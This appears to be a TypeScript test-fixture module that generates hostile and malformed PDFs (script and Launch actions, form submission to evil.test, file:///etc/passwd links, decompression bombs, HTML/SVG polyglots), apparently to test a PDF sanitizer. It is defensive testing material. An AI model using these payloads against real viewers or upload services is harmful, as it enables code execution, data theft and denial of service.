import { deflateSync } from 'node:zlib'
import {
  appended,
  ascii85,
  asciiHex,
  lzw,
  objectBytes,
  objectStream,
  onePage,
  runLength,
  upPredicted,
  withPackedTable,
  withTable,
} from './pdf-maker.ts'

const script = '<< /S /JavaScript /JS (app.alert\\(1\\)) >>'
const packed = (...how: Parameters<typeof objectStream> extends [unknown, ...infer Rest] ? Rest : never) =>
  onePage('', { 8: objectStream({ 9: script }, ...how) })
const link = (action: string) => onePage('', { 4: `<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A ${action} >>` })
const field = (action: string) =>
  onePage('/AcroForm << /Fields [4 0 R] >>', { 4: `<< /FT /Btn /T (a) /A ${action} >>` })
const both = (plain: Buffer) => deflateSync(deflateSync(plain))
const replaced = (file: Buffer, from: string | RegExp, to: string) =>
  Buffer.from(
    file.toString('latin1').replace(from, () => to),
    'latin1',
  )

/** PDFs with active content or external references. */
export const carriers: Readonly<Record<string, Buffer>> = {
  'a script in the names': onePage(`/Names << /JavaScript << /Names [(a) ${script}] >> >>`),
  'a script of a link': link(script),
  'a script in an odd spelling': link('<< /S /Jav#61Script /#4a#53 (x) >>'),
  'a script that is a stream': onePage('', { 4: { dict: '', data: 'x' }, 5: '<< /S /JavaScript /JS 4 0 R >>' }),
  'a kind that is elsewhere': onePage('', { 4: '<< /S 5 0 R /X 1 >>', 5: '/JavaScript' }),
  'a kind at the end of a chain': onePage('', { 4: '<< /S 5 0 R >>', 5: '6 0 R', 6: '/Launch' }),
  'a kind that a later revision changes': appended(onePage('', { 4: '<< /S 5 0 R >>', 5: '/GoTo' }), { 5: '/Launch' }),
  'a kind that an earlier revision had': appended(onePage('', { 4: '<< /S 5 0 R >>', 5: '/Launch' }), { 5: '/GoTo' }),
  'a key that is there twice': link('<< /S /GoTo /D [3 0 R /Fit] /S /Launch >>'),
  'a key that is there twice, the other way': link('<< /S /Launch /S /GoTo >>'),
  'a comment inside an action': link('<< /S % nothing here\n/Launch >>'),
  'no blanks at all': onePage('', { 4: '<</S/Launch/F(a)>>' }),
  'an object that nothing refers to': onePage('', { 40: script }),
  'an object of the first revision': appended(onePage('', { 4: script }), { 4: '<< >>' }),
  'an object that a later revision brings': appended(onePage(), { 4: script }),
  'a program': link('<< /S /Launch /F (cmd.exe) >>'),
  'a program for Windows': link('<< /S /Launch /Win << /F (cmd.exe) /P (/c calc) >> >>'),
  'a form that is sent': field('<< /S /SubmitForm /F (http://evil.test) >>'),
  'data that are read': field('<< /S /ImportData /F (\\\\\\\\evil\\\\x.fdf) >>'),
  'another file': link('<< /S /GoToR /F (\\\\\\\\evil.test\\\\share\\\\a.pdf) /D [0 /Fit] >>'),
  'another file by a dictionary': link('<< /S /GoToR /F << /Type /Filespec /UF (file://x) >> >>'),
  'an embedded target': link('<< /S /GoToE /T << /R /C /N (a) >> >>'),
  'a thread in another file': link('<< /S /Thread /F (a.pdf) /D 0 >>'),
  'a file under a reference': onePage('', { 4: '<< /S /Thread /F 7 0 R >>', 7: '(a.pdf)' }),
  'an action at the opening': onePage('/OpenAction << /S /URI /URI (http://evil.test) >>'),
  'an action at the opening, elsewhere': onePage('/OpenAction 4 0 R', { 4: '<< /S /Named /N /NextPage >>' }),
  'an opening that goes on': onePage(
    '/OpenAction << /S /GoTo /D [3 0 R /Fit] /Next << /S /URI /URI (http://evil.test) >> >>',
  ),
  'automatic actions of the document': onePage('/AA << /WC 5 0 R >>'),
  'automatic actions of a page': onePage('', { 4: '<< /Type /Page /AA << /O << /S /GoTo >> >> >>' }),
  'automatic actions in an odd spelling': onePage('/#41A << /O 5 0 R >>'),
  'a script address': link('<< /S /URI /URI (javascript:alert\\(1\\)) >>'),
  'a file address': link('<< /S /URI /URI (file:///etc/passwd) >>'),
  'an address that is a share': link('<< /S /URI /URI (\\\\\\\\evil\\\\a) >>'),
  'an address in digits': link(`<< /S /URI /URI <${Buffer.from('javascript:x').toString('hex')}> >>`),
  'an address in octal': link('<< /S /URI /URI (\\152avascript:x) >>'),
  'an address elsewhere': onePage('', { 4: '<< /S /URI /URI 5 0 R >>', 5: '(data:text/html,x)' }),
  'a base for addresses': onePage('/URI << /Base (file:///) >>'),
  'attached files': onePage('/Names << /EmbeddedFiles 7 0 R >>'),
  'an attached file': onePage('', { 4: { dict: '/Type /EmbeddedFile', data: 'MZ' } }),
  'a file in a note': onePage('', { 4: '<< /Subtype /FileAttachment /FS 5 0 R >>' }),
  'a file beside the text': onePage('', { 4: '<< /UF (a) /EF << /UF 5 0 R >> >>' }),
  'a film': onePage('', { 4: '<< /Subtype /RichMedia /RichMediaContent 5 0 R >>' }),
  'a sound': link('<< /S /Sound /Sound 5 0 R >>'),
  'a rendition': link('<< /S /Rendition /OP 0 >>'),
  'a screen': onePage('', { 4: '<< /Type /Annot /Subtype /Screen >>' }),
  'a form of the other kind': onePage('/AcroForm << /XFA [(template) 5 0 R] >>'),
  'code for printers': onePage('', { 4: { dict: '/Type /XObject /Subtype /PS', data: '%!' } }),
  'a stream that is elsewhere': onePage('', { 4: { dict: '/F (\\\\\\\\evil\\\\x)', data: '' } }),
  'a reference to another paper': onePage('', {
    4: { dict: '/Type /XObject /Subtype /Form /Ref << /F (a.pdf) /Page 0 >>', data: '' },
  }),
  'an unknown action': link('<< /Type /Action /S /Nuova >>'),
  'a command of the program': link('<< /S /Named /N /SaveAs >>'),
  'a password': onePage('', { 9: '<< /Filter /Standard /V 1 >>' }, '/Encrypt 9 0 R'),
  'a password in a packed table': withPackedTable('', {}, '/Encrypt << /Filter /Standard >>'),
  'a packed object': packed(),
  'a packed object under a short name': packed(deflateSync, '/Filter /Fl'),
  'an object packed twice': packed(both, '/Filter [/FlateDecode /Fl]'),
  'an object in base 85': packed(ascii85, '/Filter /A85'),
  'an object in digits': packed(asciiHex, '/Filter [/AHx]'),
  'an object in runs': packed(runLength, '/Filter /RL'),
  'an object in LZW': packed(lzw, '/Filter /LZWDecode'),
  'an object in base 85, deflated': packed(plain => ascii85(deflateSync(plain)), '/Filter [/A85 /Fl]'),
  'an object that is not packed at all': packed(plain => plain, ''),
  'an object behind a predictor': packed(
    plain => deflateSync(upPredicted(Buffer.concat([plain, Buffer.alloc(10 - (plain.length % 10), ' ')]), 10)),
    '/Filter /FlateDecode /DecodeParms << /Predictor 12 /Columns 10 >>',
  ),
  'a packed object without its type': packed(deflateSync, '/Filter /FlateDecode', ''),
  'a packed object whose type is elsewhere': onePage('', {
    7: '/ObjStm',
    8: objectStream({ 9: script }, deflateSync, '/Filter /FlateDecode', '/Type 7 0 R'),
  }),
  'a filter that is elsewhere': onePage('', {
    7: '/FlateDecode',
    8: objectStream({ 9: script }, deflateSync, '/Filter 7 0 R'),
  }),
  'a filter that is packed itself': onePage('', {
    8: objectStream({ 9: script }, deflateSync, '/Filter 7 0 R'),
    6: objectStream({ 7: '/FlateDecode' }),
  }),
  'a packed object under a packed table': withPackedTable('/OpenAction 4 0 R', { 4: script }),
  'a hybrid file': onePage('', { 8: objectStream({ 9: script }) }, '/XRefStm 20'),
}

/** PDFs that viewers interpret differently. */
export const riddles: Readonly<Record<string, Buffer>> = {
  'an object inside a stream': onePage('', { 4: { dict: '', data: '9 0 obj\n<< >>\nendobj' } }),
  'an object inside a string': onePage('', { 4: '(9 0 obj << >> endobj)' }),
  'an object inside a comment': onePage('', { 4: '1 % 9 0 obj << >> endobj' }),
  'a trailer inside a stream': onePage('', { 4: { dict: '', data: 'trailer << /Root 9 0 R >>' } }),
  'a table that points into a string': replaced(
    onePage('', { 4: '(9 %\n0 %\nobj << >> )' }),
    /startxref\n\d+/,
    `startxref\n${onePage('', { 4: '(9 %\n0 %\nobj << >> )' }).indexOf('9 %')}`,
  ),
  'something between the objects': replaced(onePage(), '2 0 obj', '<< /AA 1 >>\n2 0 obj'),
  'a word that nobody knows': onePage('', { 4: 'evil' }),
  'a dictionary without an end': onePage('/X << /S /GoTo'),
  'a string without an end': onePage('', { 4: '(abc' }),
  'a name with a NUL': onePage('/JS#00 1'),
  'a packed object of another length': onePage('', {
    8: { ...objectStream({ 9: '<< >>' }, plain => plain, ''), length: '5' },
  }),
  'a stream that says to be longer': onePage('', { 8: { ...objectStream({ 9: '<< >>' }), length: '9999' } }),
  'a stream without a length': replaced(onePage('', { 8: objectStream({ 9: '<< >>' }) }), /\/Length \d+/, ''),
  'two lengths at once': appended(onePage('', { 7: '10', 8: { ...objectStream({ 9: '1' }), length: '7 0 R' } }), {
    7: '11',
  }),
  'a type that is nowhere': onePage('', { 8: { dict: '/Type 77 0 R', data: 'x' } }),
  'a kind that is nowhere': onePage('', { 8: '<< /S 77 0 R >>' }),
  'references in a circle': onePage('', { 8: '<< /S 9 0 R >>', 9: '10 0 R', 10: '9 0 R' }),
  'an unknown filter': onePage('', { 8: objectStream({ 9: '<< >>' }, plain => plain, '/Filter /Segreto') }),
  'a filter of pictures': onePage('', { 8: objectStream({ 9: '<< >>' }, plain => plain, '/Filter /DCTDecode') }),
  'what cannot be inflated': onePage('', { 8: objectStream({ 9: '<< >>' }, plain => plain) }),
  'more objects than are told of': onePage('', {
    8: { dict: '/Type /ObjStm /N 1 /First 4', data: '9 0 << >> << /S /Launch >>' },
  }),
  'objects in another place': onePage('', { 8: { dict: '/Type /ObjStm /N 1 /First 4', data: '9 6 << >> << >>' } }),
  'a packed table that speaks of another object': replaced(
    withPackedTable(),
    /\/Index \[1 1 2 1 3 1/,
    '/Index [1 1 2 1 4 1',
  ),
  'no catalog': withTable({ 2: '<< /Type /Pages >>' }),
}

const zeros = (megabytes: number) => deflateSync(Buffer.alloc(megabytes * 1024 * 1024, ' '), { level: 9 })
const packedZeros = (megabytes: number) => ({
  dict: '/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode',
  data: zeros(megabytes),
})

export const bombs: Readonly<Record<string, () => Buffer>> = {
  'a stream of 60 MiB': () => onePage('', { 8: packedZeros(60) }),
  'a stream of 60 MiB, packed twice': () =>
    onePage('', {
      8: { dict: '/Type /ObjStm /N 1 /First 4 /Filter [/Fl /Fl]', data: deflateSync(zeros(60)) },
    }),
  'many streams of 9 MiB': () =>
    onePage('', Object.fromEntries([8, 9, 10, 11].map(number => [number, packedZeros(9)]))),
  'a hundred filters': () =>
    onePage('', {
      8: { ...objectStream({ 9: '1' }), dict: `/Type /ObjStm /N 1 /First 4 /Filter [${'/AHx '.repeat(100)}]` },
    }),
  'a million arrays in each other': () => onePage('', { 8: '['.repeat(1_000_000) }),
  'millions of packed numbers': () => onePage('', { 8: objectStream({ 9: `[${'1 '.repeat(4_000_000)}]` }) }),
  'a thousand million objects': () =>
    onePage('', { 8: { dict: '/Type /ObjStm /N 999999999 /First 4', data: '9 0 1' } }),
  'rows of a thousand million': () =>
    onePage('', {
      8: objectStream({ 9: '1' }, deflateSync, '/Filter /Fl /DecodeParms << /Predictor 12 /Columns 999999999 >>'),
    }),
  'a table of a thousand million': () => replaced(withPackedTable(), '/Index [', '/Index [5 999999999 '),
  'a table whose rows are empty': () => replaced(withPackedTable(), '/W [1 2 1]', '/W [0 0 0]'),
  'references that branch at each step': () =>
    Buffer.concat([
      onePage('', { 9: '<< /S 10 0 R >>' }),
      ...Array.from({ length: 60 }, () =>
        Buffer.concat([10, 11, 12, 13, 14, 15].map(n => objectBytes(n, n === 15 ? '/GoTo' : `${n + 1} 0 R`))),
      ),
      Buffer.from('%%EOF\n'),
    ]),
  'ten megabytes of digits': () => replaced(onePage(), '%%EOF', `%${'1'.repeat(9_000_000)} 0 obj\n%%EOF`),
  'ten megabytes of blanks that a table points into': () => {
    const blanks = ' '.repeat(4_000_000)
    const lines = Array.from({ length: 100_000 }, (_, index) => `${String(100 + index).padStart(10, '0')} 00000 n \n`)
    return Buffer.from(
      `%PDF-1.7\n${blanks}1 0 obj\n<< >>\nendobj\nxref\n0 100000\n${lines.join('')}trailer\n<< /Root 1 0 R >>\nstartxref\n0\n%%EOF\n`,
      'latin1',
    )
  },
  'LZW that grows': () => {
    const codes = Array.from({ length: 500_000 }, () => 0xff)
    return onePage('', { 8: { dict: '/Type /ObjStm /N 1 /First 4 /Filter /LZW', data: Buffer.from(codes) } })
  },
}

const page = '<!doctype html><script>top.eseguito = true; document.title = "eseguito"</script>'
const endOfZip = Buffer.concat([Buffer.from('PK\x05\x06', 'latin1'), Buffer.alloc(18)])

/** Valid PDFs that content sniffers take for another format. */
export const polyglots: Readonly<Record<string, Buffer>> = {
  'a page in front': Buffer.concat([Buffer.from(page), onePage()]),
  'a page in its head': replaced(onePage(), '%PDF-1.7\n', `%PDF-1.7\n%${page}\n`),
  'a page behind': Buffer.concat([onePage(), Buffer.from(page)]),
  'a drawing in front': Buffer.concat([
    Buffer.from('<svg xmlns="http://www.w3.org/2000/svg" onload="top.eseguito = true"></svg>'),
    onePage(),
  ]),
  'an archive behind': Buffer.concat([onePage(), endOfZip]),
}
